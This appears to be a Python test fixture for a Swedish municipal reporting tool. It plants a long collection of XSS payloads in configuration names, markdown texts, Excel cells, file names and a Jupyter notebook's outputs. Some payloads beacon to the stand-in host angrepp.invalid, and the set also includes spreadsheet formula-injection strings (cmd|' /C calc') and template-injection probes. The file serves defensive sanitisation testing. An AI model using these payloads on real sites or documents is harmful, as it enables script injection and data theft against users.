"""A kommun in which everybody writes scripts: in every name, text, cell and file name, and in the output of a chapter of its own."""

import shutil
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import nbformat
import openpyxl
import yaml

from conftest import EXEMPELKOMMUN, copied
from reporting.params.root import Root

NAMND, PERIODS, OWN = "socialnamnden", ("2025-08", "2025-04"), "50-angrepp"
CONTACT, ADDRESS = "exempel.se/'onmouseover='alert(97001)", "exempel.se/{{7}}'onfocus='alert(97002)'/"
"""What an address may hold; all that is worse is refused."""

# Each calls alert(§) or asks for http://angrepp.invalid/§; § becomes a number that says which it is and where it was put in.
_WRITTEN = (
    """<img src=x onerror=alert(§)>""",
    """<svg onload=alert(§)>""",
    """<svg/onload=alert(§)//""",
    """<script>alert(§)</script>""",
    """<ScRiPt >alert(§)</sCrIpT >""",
    """<script src=http://angrepp.invalid/§></script>""",
    """<scr<script>ipt>alert(§)</scr</script>ipt>""",
    """<script/x>alert(§)</script/x>""",
    """</script><script>alert(§)</script>""",
    """</title><script>alert(§)</script>""",
    """</style><img src=x onerror=alert(§)>""",
    """</textarea><svg onload=alert(§)>""",
    """--><img src=x onerror=alert(§)>""",
    """<!--><img src=x onerror=alert(§)>-->""",
    """a <!--!> <img src=x onerror=alert(§)> --!>""",
    """]]><img src=x onerror=alert(§)>""",
    """<![CDATA[<img src=x onerror=alert(§)>]]>""",
    """<?xml-stylesheet href="javascript:alert(§)"?><img src=x onerror=alert(§)>""",
    """[a](javascript:alert(§))""",
    """[a](JaVaScRiPt:alert(§))""",
    """[a](&#106;avascript&colon;alert(§))""",
    """[a](java%0Ascript:alert(§))""",
    """[a](vbscript:alert(§))""",
    """[a](data:text/html,<script>alert(§)</script>)""",
    """[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) alert(§)""",
    """<javascript:alert(§)>""",
    """<data:text/html,alert(§)>""",
    """[r§]: javascript:alert(§) "a" """,
    """[a](https://exempel.se/§ "' onmouseover='alert(§)") alert(§)""",
    """[a](https://exempel.se/"onmouseover="alert(§)) alert(§)""",
    """[a](<https://exempel.se/><img src=x onerror=alert(§)>)""",
    """![a](http://angrepp.invalid/§) alert(§)""",
    """![a" onerror="alert(§)](x) alert(§)""",
    """<a href="javascript:alert(§)">a</a>""",
    """<a href=" &#1; javascript:alert(§)">a</a>""",
    """<a href="java&Tab;script:alert(§)" autofocus onfocus=alert(§)>a</a>""",
    """<details open ontoggle=alert(§)>a</details>""",
    """<iframe srcdoc="<script>parent.alert(§)</script>"></iframe>""",
    """<iframe src="javascript:alert(§)"></iframe>""",
    """<meta http-equiv=refresh content="0;url=http://angrepp.invalid/§">""",
    """<style>@import "http://angrepp.invalid/§";</style>""",
    """<link rel=stylesheet href=http://angrepp.invalid/§>""",
    """<p style="background:url(http://angrepp.invalid/§)">a</p>""",
    """<base href="http://angrepp.invalid/§/">""",
    """<form action="javascript:alert(§)"><button autofocus onfocus=alert(§)>a</button></form>""",
    """<button formaction="javascript:alert(§)">a</button>""",
    """<object data="javascript:alert(§)"></object>""",
    """<embed src="http://angrepp.invalid/§">""",
    """<video><source onerror=alert(§)></video>""",
    """<audio src=x onerror=alert(§)>""",
    """<input autofocus onfocus=alert(§)>""",
    """<marquee onstart=alert(§)>a</marquee>""",
    """<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(§)&gt;">""",
    """<svg></p><style><a id="</style><img src=1 onerror=alert(§)>">""",
    """<noscript><p title="</noscript><img src=x onerror=alert(§)>">""",
    """<template><img src=x onerror=alert(§)></template><img src=x onerror=alert(§)>""",
    """<svg><script xlink:href="data:,alert(§)"></script></svg>""",
    """<svg><a xlink:href="javascript:alert(§)"><text y=9>a</text></a></svg>""",
    """<svg><animate onbegin=alert(§) attributeName=x dur=1s>""",
    """<svg><use href="data:image/svg+xml,<svg id=x onload=alert(§) />#x">""",
    """" onmouseover="alert(§)" x=\"""",
    """' onmouseover='alert(§)' x='""",
    """"><img src=x onerror=alert(§)>""",
    """'><img src=x onerror=alert(§)>""",
    """x onmouseover=alert(§) autofocus tabindex=1 onfocus=alert(§)""",
    """`-alert(§)-`${alert(§)}""",
    """'-alert(§)-'""",
    """\\"-alert(§)//""",
    """");alert(§);nrSok(\"""",
    """&lt;img src=x onerror=alert(§)&gt;""",
    """&#60;img src=x onerror=alert(§)&#62;""",
    """&amp;lt;script&amp;gt;alert(§)&amp;lt;/script&amp;gt;""",
    """%3Cimg%20src%3Dx%20onerror%3Dalert(§)%3E""",
    """\\u003cimg src=x onerror=alert(§)\\u003e""",
    """＜img src=x onerror=alert(§)＞""",
    """<img\u00a0src=x\u2003onerror=alert(§)>""",
    """{{ 7*7 }}{{ self.__init__.__globals__ }}<b onclick=alert(§)>""",
    """{% raw %}<img src=x onerror=alert(§)>{% endraw %}""",
    """{0}{v}{0.__class__}%s%(a)s<img src=x onerror=alert(§)>""",
    """$x_{<img src=x onerror=alert(§)>}$""",
    """\\g<0>\\1<img src=x onerror=alert(§)>""",
    """=HYPERLINK("http://angrepp.invalid/§";"a")&cmd|' /C calc'!A0 alert(§)""",
    """ href="#x" id="mal-x<img src=x onerror=alert(§)>\"""",
    """<td><tr></table></section></main><img src=x onerror=alert(§)>""",
    """</svg></text><img src=x onerror=alert(§)>""",
    """<x onclick=alert(§) tabindex=1 onfocus=alert(§) autofocus>a</x>""",
)  # fmt: skip
NAMES, TEXTS, CELLS, OUTPUTS, FILES, DISGUISES = range(91, 97)
"""Where a vector is put in, as the first two digits of its number."""
FORMULAS = ("=1+1", "+1+alert(1)", "-1+alert(1)", "@SUM(1)", "\t=1+2", "=cmd|' /C calc'!A0", "＝1+1")


def vectors(where: int) -> tuple[str, ...]:
    """Every vector, with the numbers that it has there."""
    return tuple(text.replace("§", f"{where}{number:03d}").strip() for number, text in enumerate(_WRITTEN))


_NAMED = {"kommun", "namn", "kort", "datakalla", "definition", "beskrivning", "plan", "beslutad_av", "arendenummer",
          "dokumentagare", "dokumentnamn", "givet", "brister"}  # fmt: skip
_CELLS = {"kommentar", "analys", "nästa steg", "granskning", "av", "ärende", "kostnad", "investering",
          "verksamhetsområde"}  # fmt: skip

_FORMULAS = {"ärende", "kostnad", "investering"}
"""Columns whose cells begin as a formula does."""


def hostile_kommun(folder: Path) -> Root:
    """Exempelkommun's socialnämnd in two periods, with every vector in names, texts, cells, file names and a chapter's output."""
    root = copied(EXEMPELKOMMUN, folder)
    for path in [*(root.params / "planer").iterdir(), *root.params.glob("20*.yml")]:
        if path.stem not in (f"{NAMND}-2023-2025", *PERIODS):
            path.unlink()
    (root.data / "historik.xlsx").unlink()
    for path in list(root.data.glob("*/*")):
        if path.parent.name not in PERIODS or path.name != NAMND:
            shutil.rmtree(path)
    names, cells = cycle(vectors(NAMES)), cycle(vectors(CELLS))
    steps = _write_names(root, names)
    for period in PERIODS:
        _write_files(root, period, names, cells, steps)
    _write_chapter(root.notebooks / f"{OWN}.ipynb")
    return root


def _write_names(root: Root, words: Iterator[str]) -> dict[str, str]:
    """Vectors after every name of kommun.yml and the plan; each step's old name → its new one."""
    path = root.params / "kommun.yml"
    kommun = yaml.safe_load(path.read_text(encoding="utf-8"))
    kommun["namnder"] = [item for item in kommun["namnder"] if item["id"] == NAMND]
    kommun["webbplats"]["tillganglighet"] = {
        "forenlig": "delvis",
        "bedomd": "2025-01-30",
        "brister": ["Kartan", "Filmen"],
    }
    kommun["skalor"] = {"delarsskala": kommun["skalor"]["delarsskala"]}
    kommun["rapporttyper"] = {"delarsuppfoljning": {"namn": "Delårsuppföljning", "skala": "delarsskala"}}
    before = [step["namn"] for step in kommun["skalor"]["delarsskala"]["steg"]]
    kommun = _with_words(kommun, words)
    kommun["webbplats"] |= {"kontakt": f"https://{CONTACT}", "adress": f"https://{ADDRESS}"}
    _write_yaml(path, kommun)
    for plan in (root.params / "planer").iterdir():
        _write_yaml(plan, _with_words(yaml.safe_load(plan.read_text(encoding="utf-8")), words))
    return dict(zip(before, (step["namn"] for step in kommun["skalor"]["delarsskala"]["steg"]), strict=True))


def _with_words(value: Any, words: Iterator[str], key: str = "") -> Any:
    if isinstance(value, dict):
        return {name: _with_words(item, words, name) for name, item in value.items()}
    if isinstance(value, list):
        return [_with_words(item, words, key) for item in value]
    return f"{value} {next(words)}" if key in _NAMED and isinstance(value, str) else value


def _write_yaml(path: Path, value: Any) -> None:
    path.write_text(yaml.safe_dump(value, allow_unicode=True, sort_keys=False, width=9999), encoding="utf-8")


def _write_files(root: Root, period: str, names: Iterator[str], cells: Iterator[str], steps: dict[str, str]) -> None:
    """The period's file, workbooks (renamed) and texts."""
    path = root.params / f"{period}.yml"
    run = yaml.safe_load(path.read_text(encoding="utf-8"))
    decided = run["namnder"][NAMND]
    folder = root.data / period / NAMND
    renamed = []
    for name, hostile in zip(decided["arbetsbocker"], file_names(), strict=True):
        _write_cells(folder / name, cells)
        (folder / name).rename(folder / hostile)
        renamed.append(hostile)
    run["namnder"] = {NAMND: _with_words(decided, names) | {"arbetsbocker": renamed}}
    _write_yaml(path, run)
    texts = folder / "texter.md"
    told = texts.read_text(encoding="utf-8")
    for old, new in steps.items():
        told = told.replace(f"bedömning: {old}\n", f"bedömning: {new}\n")
    every = "\n".join(f"Rad:\n\n{vector}\n\nHär står {vector}\n" for vector in vectors(TEXTS))
    told = told.replace("\n### Orsaker\n", f"\n### Orsaker\n\n{every}", 1)
    told = told.replace("\n### Granskningar\n", f"\n### Granskningar\n\n{every}", 1)
    told += "\n" + "\n\n".join(f"[a][m{n}]\n\n[m{n}]: {_target(vector)}" for n, vector in enumerate(vectors(TEXTS)))
    texts.write_text(f"{told}\n", encoding="utf-8")


def _target(vector: str) -> str:
    return f"<javascript:{vector.replace('<', '').replace('>', '')}>"


def file_names() -> list[str]:
    """Names of workbooks, as hostile as a file system that is shared with Windows lets them be. Each holds a number of its own."""
    return [
        "utfall-'onmouseover='alert(95001)'.xlsx",
        "utfall-&lt;img src=x onerror=alert(95002)&gt;.xlsx",
        "utfall-%3Csvg onload=alert(95003)%3E{{7}}.xlsx",
    ]


def _write_cells(path: Path, words: Iterator[str]) -> None:
    """Vectors in every cell that holds anybody's text."""
    book, formulas = openpyxl.load_workbook(path), cycle(FORMULAS)
    for sheet in book:
        if sheet.title == "Om leveransen":
            continue
        for heading in sheet[1]:
            if str(heading.value) not in _CELLS and (sheet.title, heading.value) != ("Granskningar", "utfall"):
                continue
            for (cell,) in sheet.iter_rows(min_row=2, min_col=heading.column, max_col=heading.column):
                if sheet.cell(cell.row, 1).value is not None:
                    formula = f"{next(formulas)} {path.stem} {cell.row}"  # each row has a name of its own
                    cell.value = formula if heading.value in _FORMULAS else f"{cell.value or 'Här'} {next(words)}"
                    cell.data_type = "s"
    book.save(path)


def _write_chapter(path: Path) -> None:
    """An analyst's chapter that shows every vector in every way that an output can be shown."""
    notebook = nbformat.v4.new_notebook()
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    kinds = ["text/html", "text/markdown", "text/plain", "image/svg+xml", "application/javascript", "image/png"]
    show = [
        "from IPython.display import display, HTML",
        f"words = {list(vectors(OUTPUTS))!r}",
        "print('\\n'.join(words))",
    ]
    show += [f"display({{{kind!r}: '\\n\\n'.join('Rad ' + word for word in words)}}, raw=True)" for kind in kinds]
    show += ["for word in words:", "    display(HTML(f'<div title=\"{word}\"><svg><text>{word}</text></svg></div>'))"]
    show += [f"display(HTML({html!r}))" for html in DISGUISED]
    notebook.cells = [
        nbformat.v4.new_markdown_cell("# Eget kapitel " + vectors(OUTPUTS)[0]),
        nbformat.v4.new_code_cell('period = ""\nnamnd = ""\nroot = ""', metadata={"tags": ["parameters"]}),
        nbformat.v4.new_markdown_cell("\n\n".join(vectors(OUTPUTS))),
        nbformat.v4.new_code_cell("\n".join(show), metadata={"alt": vectors(OUTPUTS)[0]}),
    ]
    nbformat.write(notebook, path)


DISGUISED = (
    r"<svg><path d='M0 0h9v9z' style='fill:u\72l(http://angrepp.invalid/96001)'/></svg>",
    r"<svg><path d='M0 0h9v9z' fill='u\72l(http://angrepp.invalid/96002)'/></svg>",
    "<svg><path d='M0 0h9v9z' fill='image-set(\"http://angrepp.invalid/96003\")'/></svg>",
    "<img alt='a' src='data:image/png;base64,AA\" onerror=alert(96004) x=\"'>",
    "<p title='<img onfocus=alert(96005) autofocus tabindex=0>' lang='\" onfocus=alert(96005)'>a</p>",
    "<a href='//angrepp.invalid/96006' target=x ping=http://angrepp.invalid/96006 onclick=alert(96006)>a</a>",
    "<details ontoggle=alert(96007) open><summary onclick=alert(96007)>a</summary></details>",
    "<a href='data:text/html,<script>alert(96008)</script>'>a</a><a href='blob:x'>b</a><a href='javascript:alert(96008)'>c</a>",
    "<svg><use href='http://angrepp.invalid/96009#a'/><image href='http://angrepp.invalid/96009'/></svg>",
    "<img alt='a' src='http://angrepp.invalid/96010' srcset='http://angrepp.invalid/96010 2x'>",
    "<table background='http://angrepp.invalid/96011'><tr><td background='http://angrepp.invalid/96011'>a</table>",
    "<div style='background:url(http://angrepp.invalid/96012)' class='a\" onclick=alert(96012)'>a</div>",
)  # fmt: skip
"""HTML that an allow-list has to see through."""
